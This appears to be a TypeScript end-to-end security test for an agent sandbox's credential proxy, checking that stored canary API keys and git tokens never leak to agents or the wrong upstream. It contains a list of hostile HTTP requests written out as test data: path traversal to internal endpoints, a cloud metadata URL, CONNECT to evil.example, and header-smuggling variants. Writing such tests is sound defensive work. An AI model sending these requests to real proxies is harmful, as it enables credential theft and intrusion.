import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { plantProbes, PROBES, runProbe } from '../e2e/hostile/agent.js';
import { canary, found, inMemoryForms, masked, needleOf, type Needle } from '../e2e/hostile/needles.js';
import { TestSystem } from '../e2e/support/system.js';
import { figure, playsInFull, type Findings } from './figure.js';

/** What is stored in Berth when the agents begin, by kind; each is looked for, whether it is lent or not. */
interface Stored {
  anthropic: string;
  openai: string;
  git: string;
  needles: Needle[];
}

const AGENTS = playsInFull ? (['claude', 'codex'] as const) : (['claude'] as const);
type Agent = (typeof AGENTS)[number];

async function store({ api, anthropic, openai, git }: TestSystem): Promise<Stored> {
  const keys = {
    anthropic: canary('sk-ant-api03-'),
    ours: canary('sk-ant-api03-'),
    setup: canary('sk-ant-oat01-'),
    openai: canary('sk-proj-'),
    git: canary('ghp_'),
    elsewhere: canary('ghp_'),
  };
  anthropic.accept(keys.anthropic);
  openai.accept(keys.openai);
  git.accept(keys.git);
  await api.setCredential('user', 'anthropic_api_key', { apiKey: keys.anthropic });
  await api.setCredential('organization', 'anthropic_api_key', { apiKey: keys.ours });
  await api.setCredential('organization', 'claude_setup_token', { token: keys.setup });
  await api.setCredential('user', 'openai_api_key', { apiKey: keys.openai });
  await api.setCredential('organization', 'git_token', { host: 'github.com', token: keys.git });
  await api.setCredential('user', 'git_token', { host: 'git.example', token: keys.elsewhere });
  const needles = Object.entries(keys).map(([name, key]) =>
    needleOf(name, key, /^(sk-ant-\w+-|sk-proj-|ghp_)/.exec(key)?.[0]),
  );
  return { ...keys, needles };
}

const HEAD = 'Host: 127.0.0.1\r\nConnection: close\r\n';
const KEY = 'x-api-key: {placeholder}\r\n';
const MODEL = '{"model":"claude-haiku-4-5","max_tokens":9,"messages":[{"role":"user","content":"Good day"}]}';
const message = (headers: string, body = MODEL): string =>
  `POST /anthropic/v1/messages HTTP/1.1\r\n${HEAD}${KEY}Content-Type: application/json\r\nanthropic-version: 2023-06-01\r\nContent-Length: ${body.length}\r\n${headers}\r\n${body}`;

/** What no agent asks, as bytes. */
const requests: Record<string, string> = {
  ...Object.fromEntries(
    [
      '/',
      '/debug',
      '/metrics',
      '/health',
      '/reflect',
      '/config',
      '/internal/v1/proxy/lease',
      '/anthropic/../internal/v1/proxy/lease',
      '/anthropic/v1/%2e%2e/debug',
      '/anthropic/v1/organizations/api_keys',
      '/openai/v1/models',
      '/git/github.com/private/other.git/info/refs?service=git-upload-pack',
      '/git/github.com/private/claude.git/config',
      'http://169.254.169.254/latest/meta-data/iam/',
      'http://evil.example/anthropic/v1/messages',
    ].map((target) => [target, `GET ${target} HTTP/1.1\r\n${HEAD}${KEY}\r\n`]),
  ),
  trace: `TRACE /anthropic/v1/messages HTTP/1.1\r\n${HEAD}${KEY}\r\n`,
  connect: `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`,
  'two lengths': message('Content-Length: 3\r\n'),
  'both framings': message('Transfer-Encoding: chunked\r\n'),
  'the key as of the connection': message('Connection: x-api-key\r\n'),
  'another host': message('X-Forwarded-Host: evil.example\r\nForwarded: host=evil.example\r\n'),
  'a broken body': message('', '{"model":'),
  'an honest one': message(''),
};

/** A workspace on a private repository, whose agent worked in it, is searched from inside. */
async function searchFrom(
  system: TestSystem,
  agent: Agent,
  { needles }: Stored,
  findings: Findings,
): Promise<string> {
  const began = Date.now();
  const { id } = await system.api.createWorkspace({ repository: `private/${agent}`, agent });
  await system.api.untilState(id, 'running');
  const asked = await system.api.send(id, 'run git fetch && git config --list > settings.txt');
  const ended = await system.api.untilEnded(id, asked.id);
  findings.expect(ended.state === 'completed', `${agent}: ${ended.state}`);
  await plantProbes(system, id);
  // What is put there on purpose must be found, or nothing was searched.
  const control = canary('ghp_');
  writeFileSync(path.join(system.treeOf(id), 'control.txt'), control, { mode: 0o644 });
  const looked = [...needles, needleOf('the control', control, 'ghp_')];
  const {
    findings: inside,
    files,
    memories,
  } = await runProbe<{
    findings: string[];
    files: number;
    memories: number;
  }>(system, id, 'secrets', {
    masked: masked(looked),
    inMemory: masked(inMemoryForms(looked)),
    hostPaths: [system.berth.dataDirectory],
    since: began,
    own: PROBES,
  });
  const isControl = (found: string): boolean => found.startsWith('the control in ');
  for (const found of inside) if (!isControl(found)) findings.breach(`${agent}: ${found}`);
  findings.expect(inside.some(isControl), `${agent}: what was put there was not found`);
  findings.expect(
    files > 1000 && memories >= 2,
    `${agent}: ${files} files and ${memories} memories were seen`,
  );
  findings.number(`files searched by ${agent}`, files);
  return id;
}

async function askProxy(
  system: TestSystem,
  id: string,
  { needles }: Stored,
  findings: Findings,
): Promise<void> {
  const { answers } = await runProbe<{ answers: Record<string, string> }>(system, id, 'proxy', { requests });
  for (const [name, answer] of Object.entries(answers))
    for (const what of found(needles, Buffer.from(answer, 'latin1')))
      findings.breach(`${what} in the answer to ${name}`);
  const honest = answers['an honest one'] ?? '';
  findings.expect(honest.startsWith('HTTP/1.1 200 '), `the honest request: ${honest.slice(0, 300)}`);
  findings.number('hostile requests', Object.keys(answers).length);
}

/** A login in the home folder that the agent is given. */
async function plant(system: TestSystem, id: string, findings: Findings): Promise<void> {
  const { api } = system;
  await system.hibernate(id);
  const file = path.join(system.filesOf(id), 'home', '.claude', '.credentials.json');
  mkdirSync(path.dirname(file), { recursive: true });
  const planted = canary('sk-ant-oat01-');
  writeFileSync(file, JSON.stringify({ claudeAiOauth: { accessToken: planted } }), { mode: 0o644 });
  await api.post(api.path(`/workspaces/${id}/wake`), {}, 202);
  const { stateReason } = await api.untilState(id, 'failed');
  const says =
    stateReason?.includes('~/.claude/.credentials.json') === true && !stateReason.includes(planted);
  findings.expect(says, `a planted key: ${stateReason ?? 'it started'}`);
  rmSync(file);
  await api.post(api.path(`/workspaces/${id}/wake`), {}, 202);
  await api.untilState(id, 'running');
}

/** Each upstream was sent its own credential, and nothing else. */
function checkUpstreams(system: TestSystem, stored: Stored, findings: Findings): void {
  const sent = {
    anthropic: [stored.anthropic, system.anthropic],
    openai: [stored.openai, system.openai],
    git: [`x-access-token:${stored.git}`, system.git],
  } as const;
  for (const [name, [own, { requests: seen }]] of Object.entries(sent)) {
    const others = seen.filter(({ credential }) => credential.value !== own);
    findings.expect(others.length === 0, `${others.length} requests to ${name} with something else`);
    const elsewhere = seen.filter(
      ({ headers }) => found(stored.needles, Buffer.from(headersOf(headers))).length > 1,
    );
    findings.expect(
      elsewhere.length === 0,
      `${elsewhere.length} requests to ${name} with another's credential`,
    );
  }
}

function headersOf(headers: object): string {
  return JSON.stringify(headers);
}

figure(
  {
    id: 'F13 inside',
    scenario:
      'credentials of every kind are stored and lent; the real agents work on private repositories, and search from inside: every file, environment, command line, descriptor and memory that they see, git’s settings among them; they ask the proxy what no agent asks (debug paths, header smuggling, other hosts, CONNECT), and search the answers; a real-looking login is put into the home folder of a workspace that sleeps',
    line: '0 found, as it is, in base64, hex or wide characters; each upstream gets its own credential and no other; a planted one makes the start refuse, with its place and without its text',
    rounds: { small: 1, full: 10 },
    countedAt: 'inside the sandbox; the upstreams’ ledgers',
    time: 'real',
  },
  async (findings) => {
    for (let round = 0; round < findings.rounds; round++) {
      const system = await TestSystem.start();
      try {
        const stored = await store(system);
        for (const agent of AGENTS) await system.git.createRepository(`private/${agent}`);
        system.git.protect('private/*');
        const [first = ''] = await Promise.all(
          AGENTS.map((agent) => searchFrom(system, agent, stored, findings)),
        );
        await askProxy(system, first, stored, findings);
        await plant(system, first, findings);
        checkUpstreams(system, stored, findings);
      } finally {
        await system.close();
      }
    }
    findings.tried = findings.rounds * AGENTS.length;
  },
);
